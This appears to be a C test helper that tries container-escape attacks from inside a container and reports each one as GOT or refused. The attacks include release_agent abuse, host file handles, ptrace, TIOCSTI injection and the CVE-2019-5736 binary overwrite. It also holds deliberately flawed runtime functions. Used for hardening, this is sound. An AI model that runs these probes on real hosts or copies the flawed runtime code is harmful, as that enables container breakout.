/*
 * Attacks on a container from inside, one word each, and the careless runtimes that they work against.
 *
 * An attack that succeeds prints a line that begins with GOT, one that is refused prints "no WHAT: why". The exit code is 0
 * in both cases: who asks reads the lines.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int tell(int got, const char *what)
{
    if (got)
        printf("GOT %s\n", what);
    else
        printf("no %s: %s\n", what, strerror(errno));
    fflush(stdout);
    return got;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Writes into a file what is in it already. */
static void same(const char *path)
{
    char value[4096];
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, value, sizeof value);
    close(fd);
    if (n >= 0) {
        fd = open(path, O_WRONLY);
        n = fd < 0 ? -1 : write(fd, value, n);
        close(fd);
    }
    tell(n >= 0, path);
}

/* Opens a file, and reads a little where it is opened for reading. */
static void reach(const char *path, int flags)
{
    char bytes[16];
    int fd = open(path, flags | O_NONBLOCK);
    int got = fd >= 0;
    if (got && flags == O_RDONLY) {
        ssize_t n = read(fd, bytes, sizeof bytes);
        got = n > 0 || (n < 0 && errno == EISDIR);
        if (n == 0)
            errno = ENODATA;
    }
    tell(got, path);
}

/* Tells of descriptors that the program was not meant to get. */
static void fds(void)
{
    int found = 0;
    for (int fd = 3; fd < 1024; fd++) {
        char link[64], to[PATH_MAX];
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, to, sizeof to - 1);
        to[n < 0 ? 0 : n] = 0;
        printf("GOT descriptor %d %s\n", fd, to);
        found = 1;
    }
    errno = EBADF;
    if (!found)
        tell(0, "descriptor");
}

static long add_key(const char *kind, const char *name, const char *value, int ring)
{
    return syscall(SYS_add_key, kind, name, value, strlen(value), ring);
}

/* A key that the caller put into its session keyring: KEYCTL_SEARCH (10), KEYCTL_READ (11). */
static void key(const char *name)
{
    char value[64] = { 0 };
    long id = syscall(SYS_keyctl, 10, -3, "user", name, 0);
    long n = id < 0 ? -1 : syscall(SYS_keyctl, 11, id, value, sizeof value - 1);
    tell(n > 0, "key");
}

/* Executes a command with a new session keyring that has a key in it: KEYCTL_JOIN_SESSION_KEYRING (1). */
static void with_key(char **args)
{
    if (syscall(SYS_keyctl, 1, NULL) < 0 || add_key("user", args[0], "secret", -3) < 0) {
        printf("skip keys: %s\n", strerror(errno));
        return;
    }
    execvp(args[1], args + 1);
}

/* Prints a file's handle: type, then bytes. */
static void handle_of(const char *path)
{
    struct { struct file_handle h; unsigned char bytes[128]; } h = { .h.handle_bytes = 128 };
    int mount;
    if (name_to_handle_at(AT_FDCWD, path, &h.h, &mount, 0) < 0)
        return;
    printf("%d:", h.h.handle_type);
    for (unsigned i = 0; i < h.h.handle_bytes; i++)
        printf("%02x", h.h.f_handle[i]);
}

/* Opens a file of the host by its handle, in the file system that the container's root is in. */
static void handle(const char *text)
{
    struct { struct file_handle h; unsigned char bytes[128]; } h;
    char *hex, bytes[16];
    unsigned byte, n = 0;
    h.h.handle_type = strtol(text, &hex, 10);
    for (hex++; sscanf(hex, "%2x", &byte) == 1; hex += 2)
        h.h.f_handle[n++] = byte;
    h.h.handle_bytes = n;
    int fd = open_by_handle_at(open("/", O_RDONLY), &h.h, O_RDONLY);
    tell(fd >= 0 && read(fd, bytes, 6) == 6, "handle");
}

static void put(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);
    if (fd >= 0 && write(fd, text, strlen(text)) < 0)
        errno = EIO;
    close(fd);
}

/* A user namespace by each of the calls that make one. */
static void userns(void)
{
    struct clone_args args = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    tell(pid > 0, "clone");
    pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0)
        _exit(0);
    tell(pid > 0, "clone3");
    tell(unshare(CLONE_NEWUSER) == 0, "unshare");
}

static int inside(int more)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | more) < 0)
        return -1;
    put("/proc/self/setgroups", "deny");
    put("/proc/self/uid_map", "0 0 1");
    put("/proc/self/gid_map", "0 0 1");
    return 0;
}

/* A procfs without masks, in namespaces of its own. */
static void nested_proc(const char *at, const char *file)
{
    if (inside(CLONE_NEWPID) < 0) {
        tell(0, "nested procfs");
        return;
    }
    pid_t pid = fork();
    if (pid == 0) {
        mkdir(at, 0755);
        if (mount("proc", at, "proc", MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL) < 0)
            tell(0, "nested procfs");
        else
            same(file);
        exit(0);
    }
    waitpid(pid, NULL, 0);
}

/* A hierarchy of control groups with a release agent: the new private one NAME, or (with "nested") behind a user namespace. */
static void agent(const char *name, int nested)
{
    char path[256], data[256];
    snprintf(data, sizeof data, "none,name=%s", name);
    snprintf(path, sizeof path, "/tmp/cg/release_agent");
    if (nested && inside(CLONE_NEWCGROUP) < 0) {
        tell(0, "release agent");
        return;
    }
    mkdir("/tmp/cg", 0755);
    if (mount("cgroup", "/tmp/cg", "cgroup", 0, data) < 0) {
        tell(0, "release agent");
        return;
    }
    int fd = open(path, O_WRONLY);
    tell(fd >= 0 && write(fd, "\n", 1) == 1, "release agent");
    close(fd);
    umount("/tmp/cg");
}

/* A file of the host seen through one of its processes; its memory; a signal; its namespaces. */
static void process(const char *pid)
{
    char path[64], bytes[8];
    struct iovec own = { bytes, sizeof bytes }, other = { (void *)0x1000, 1 };
    snprintf(path, sizeof path, "/proc/%s/root", pid);
    int fd = open(path, O_RDONLY);
    tell(fd >= 0, path);
    snprintf(path, sizeof path, "/proc/%s/ns/mnt", pid);
    fd = open(path, O_RDONLY);
    tell(fd >= 0 && setns(fd, CLONE_NEWNS) == 0, path);
    snprintf(path, sizeof path, "/proc/%s/mem", pid);
    tell(open(path, O_RDWR) >= 0, path);
    tell(process_vm_readv(atoi(pid), &own, 1, &other, 1, 0) >= 0 || errno == EFAULT, "memory");
    tell(syscall(SYS_pidfd_open, atoi(pid), 0) >= 0, "pidfd");
    tell(kill(atoi(pid), 0) == 0, "signal");
    tell(ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0, "ptrace");
}

/* A socket of the host in the abstract name space (CVE-2020-15257). */
static void abstract(const char *name)
{
    struct sockaddr_un to = { .sun_family = AF_UNIX };
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(to.sun_path + 1, name, sizeof to.sun_path - 2);
    tell(connect(fd, (void *)&to, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)) == 0, "abstract socket");
}

/* System calls that the default filter keeps away: they fail in other ways without it. */
static void calls(void)
{
    static const struct { const char *name; long number; long a; } all[] = {
        { "io_uring_setup", SYS_io_uring_setup, 0 }, { "userfaultfd", SYS_userfaultfd, -1 },
        { "keyctl", SYS_keyctl, -1 }, { "bpf", SYS_bpf, -1 }, { "kexec_load", SYS_kexec_load, -1 },
        { "swapon", SYS_swapon, 0 }, { "pivot_root", SYS_pivot_root, 0 }, { "move_pages", SYS_move_pages, -1 },
        { "open_tree", SYS_open_tree, -1 }, { "fsopen", SYS_fsopen, 0 }, { "quotactl", SYS_quotactl, -1 },
    };
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
        long done = syscall(all[i].number, all[i].a, 0, 0, 0, 0, 0);
        /* Bad arguments are found by the call itself. */
        tell(done >= 0 || (errno != EPERM && errno != ENOSYS), all[i].name);
    }
    tell(socket(38, SOCK_SEQPACKET, 0) >= 0 || errno == EAFNOSUPPORT, "AF_ALG");
    tell(socket(40, SOCK_STREAM, 0) >= 0 || errno == EAFNOSUPPORT, "AF_VSOCK");
}

/* Types into the terminal that standard input is. */
static void type(void)
{
    tell(ioctl(0, TIOCSTI, "x") == 0, "terminal");
}

/* Executes a command as a session's first process, on a terminal of its own, and passes on what it writes. */
static void with_terminal(char **args)
{
    char bytes[4096];
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    grantpt(master);
    unlockpt(master);
    const char *name = ptsname(master);
    pid_t pid = fork();
    if (pid == 0) {
        setsid();
        int tty = open(name, O_RDWR);
        ioctl(tty, TIOCSCTTY, 0);
        dup2(tty, 0), dup2(tty, 1), dup2(tty, 2);
        if (tty > 2)
            close(tty);
        close(master);
        execvp(args[0], args);
        _exit(127);
    }
    ssize_t n;
    while ((n = read(master, bytes, sizeof bytes)) > 0)
        fwrite(bytes, 1, n, stdout);
    waitpid(pid, NULL, 0);
}

/* What watch holds: a handle of an executable that is not the container's. */
struct held { int fd; dev_t dev; ino_t ino; };

static int known(struct held *all, int count, const struct stat *s)
{
    for (int i = 0; i < count; i++)
        if (all[i].ino == s->st_ino && all[i].dev == s->st_dev)
            return 1;
    return 0;
}

/* Tries to get at the host through what another process has open. */
static void look(const char *pid, const char *secret)
{
    char path[300], far[PATH_MAX];
    snprintf(far, sizeof far, "../../../../../../../../../..%s", secret);
    const char *others[] = { "cwd", "root" };
    for (int i = 0; i < 66; i++) {
        if (i < 2)
            snprintf(path, sizeof path, "/proc/%s/%s", pid, others[i]);
        else
            snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, i + 1);
        int fd = open(path, O_PATH);
        if (fd < 0)
            continue;
        int file = openat(fd, far, O_RDONLY);
        if (file >= 0) {
            printf("GOT the host's files by %s\n", path);
            fflush(stdout);
            close(file);
        }
        close(fd);
    }
}

/*
 * Waits for processes that are put into this container and takes handles of their executables; then tries to write to
 * those (CVE-2019-5736), and until then to reach the file SECRET of the host through all that they have open.
 */
static void watch(double seconds, const char *secret)
{
    static struct held own[2], all[64];
    struct stat s;
    int count = 0;
    const char *mine[] = { "/proc/self/exe", "/bin/busybox" };
    for (int i = 0; i < 2; i++)
        if (stat(mine[i], &s) == 0)
            own[i] = (struct held){ -1, s.st_dev, s.st_ino };
    double end = now() + seconds;
    printf("watching\n");
    fflush(stdout);
    for (int next = getpid() + 1; now() < end;) {
        /* Numbers come one after another: no directory has to be read. */
        char path[64], pid[16];
        for (int i = 1; i < 6; i++) {
            snprintf(path, sizeof path, "/proc/%d", next + i);
            if (access(path, F_OK) == 0)
                next += i;
        }
        snprintf(pid, sizeof pid, "%d", next);
        snprintf(path, sizeof path, "/proc/%d/exe", next);
        int fd = open(path, O_PATH);
        if (fd >= 0 && fstat(fd, &s) == 0 && !known(own, 2, &s) && !known(all, count, &s) && count < 64) {
            char to[PATH_MAX];
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(path, to, sizeof to - 1);
            to[n < 0 ? 0 : n] = 0;
            printf("saw %s\n", to);
            all[count++] = (struct held){ fd, s.st_dev, s.st_ino };
        } else if (fd >= 0) {
            close(fd);
        }
        look(pid, secret);
    }
    for (int i = 0; i < count; i++) {
        char path[64];
        int fd = -1;
        snprintf(path, sizeof path, "/proc/self/fd/%d", all[i].fd);
        /* While it runs somewhere it is busy. */
        for (double stop = now() + 3; fd < 0 && now() < stop; usleep(1000)) {
            fd = open(path, O_WRONLY);
            if (fd < 0 && errno != ETXTBSY)
                break;
        }
        /* A sealed file in memory can be opened, but not written. */
        tell(fd >= 0 && write(fd, "overwritten\n", 12) == 12, "executable");
    }
    printf("watched %d\n", count);
    fflush(stdout);
}

/* Exchanges two names again and again, until it is ended. */
static void swap(const char *a, const char *b)
{
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2) < 0)
            exit(1);
}

/* A careless runtime's exec: joins a container's namespaces, prepares something, executes. */
static void naive_exec(const char *pid, char **args)
{
    static const char *const kinds[] = { "ipc", "uts", "net", "cgroup", "pid", "mnt" };
    int all[6];
    for (int i = 0; i < 6; i++) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%s/ns/%s", pid, kinds[i]);
        all[i] = open(path, O_RDONLY);
    }
    for (int i = 0; i < 6; i++)
        setns(all[i], 0);
    pid_t child = fork();
    if (child == 0) {
        usleep(20000);
        execvp(args[0], args);
        _exit(127);
    }
    waitpid(child, NULL, 0);
}

/* A careless runtime's mount: looks at a place, then makes and mounts it by its name, until that went out of ROOT. */
static void naive_mount(const char *root, const char *place, double seconds)
{
    char path[PATH_MAX], line[2 * PATH_MAX], source[] = "trine-escape-naive";
    struct stat s;
    unshare(CLONE_NEWNS);
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    snprintf(path, sizeof path, "%s/a", place);
    for (double end = now() + seconds; now() < end;) {
        if (lstat(place, &s) < 0 || !S_ISDIR(s.st_mode))
            continue;
        mkdir(path, 0755);
        if (mount(source, path, "tmpfs", 0, "size=4k") < 0)
            continue;
        FILE *table = fopen("/proc/self/mountinfo", "r");
        int out = 0;
        while (fgets(line, sizeof line, table))
            if (strstr(line, source) && !strstr(line, root))
                out = 1;
        fclose(table);
        if (out) {
            tell(1, "a mount outside");
            return;
        }
        umount2(path, MNT_DETACH);
    }
    errno = ETIME;
    tell(0, "a mount outside");
}

/* A careless runtime's directory: the host's root is still open when the container's directory is entered. */
static void naive_cwd(const char *root, const char *secret)
{
    unshare(CLONE_NEWNS);
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    dup2(open("/", O_RDONLY), 7);
    if (chroot(root) < 0 || chdir("/") < 0)
        return;
    mount("proc", "/proc", "proc", 0, NULL);
    tell(chdir("/proc/self/fd/7") == 0 && open(secret + 1, O_RDONLY) >= 0, "directory");
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    const char *a = argc > 2 ? argv[2] : "", *b = argc > 3 ? argv[3] : "", *c = argc > 4 ? argv[4] : "";
#define WORD(name, call) if (!strcmp(what, name)) { call; return 0; }
    WORD("same", same(a))
    WORD("read", reach(a, O_RDONLY))
    WORD("write", reach(a, O_WRONLY))
    WORD("fds", fds())
    WORD("key", key(a))
    WORD("with-key", with_key(argv + 2))
    WORD("handle-of", handle_of(a))
    WORD("handle", handle(a))
    WORD("userns", userns())
    WORD("nested-proc", nested_proc(a, b))
    WORD("agent", agent(a, 0))
    WORD("nested-agent", agent(a, 1))
    WORD("process", process(a))
    WORD("abstract", abstract(a))
    WORD("calls", calls())
    WORD("type", type())
    WORD("with-terminal", with_terminal(argv + 2))
    WORD("euid", errno = EPERM; tell(geteuid() == 0, "root"))
    WORD("watch", watch(atof(a), b))
    WORD("swap", swap(a, b))
    WORD("naive-exec", naive_exec(a, argv + 3))
    WORD("naive-mount", naive_mount(a, b, atof(c)))
    WORD("naive-cwd", naive_cwd(a, b))
    fprintf(stderr, "attack: no word '%s'\n", what);
    return 2;
}
